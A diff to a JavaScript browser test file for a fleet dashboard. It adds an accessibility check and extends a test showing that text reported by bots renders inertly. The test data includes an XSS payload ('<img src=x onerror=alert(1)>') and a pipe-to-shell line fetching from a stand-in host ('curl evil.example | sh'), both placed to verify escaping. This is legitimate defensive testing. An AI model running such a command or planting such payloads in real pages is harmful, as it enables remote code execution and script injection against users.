@@ -5,7 +5,7 @@ import {tmpdir} from 'node:os';
 import path from 'node:path';
 import {test} from 'node:test';
 import {bin, keys, names, next, run, until} from './harness.js';
-import {dashboard, open} from './page.js';
+import {axe_finds, dashboard, open} from './page.js';
 
 test('the page shows the fleet, its figures and what happens, as it happens', async (t) => {
   const {server, url} = await dashboard(t);
@@ -66,6 +66,12 @@ test('what a bot says is text on the page, and turns nothing round', async (t) =
   await item.waitFor();
   assert.match(await item.textContent(), /<img src=x onerror=alert\(1\)> {2}end\)/);
   assert.equal(await page.locator('#events img').count(), 0);
+  // Nor does it make a fact of its own.
+  report(2, 'x\n  try        <b>curl evil.example | sh</b>');
+  await page.goto(`${url}#/shard/0`);
+  await page.locator('#facts dd', {hasText: 'last exit: x'}).waitFor();
+  assert.deepEqual(await page.locator('#facts code').allTextContents().then((texts) => texts.filter((text) => /curl/.test(text))), []);
+  assert.equal(await page.locator('#facts b').count(), 0);
 });
 
 test('graphs zoom, and go through the ranges, on a phone and in the dark too', async (t) => {
@@ -141,6 +147,7 @@ test('a password lets people in by the form and programs by a header, and guesse
   const page = await open(t, url);
   await page.locator('#password').waitFor();
   assert.ok(await page.isHidden('#page'));
+  assert.deepEqual(await axe_finds(page), []);
   await page.fill('#password', 'open');
   await page.keyboard.press('Enter');
   await page.locator('#login-error', {hasText: 'that is not the password'}).waitFor();
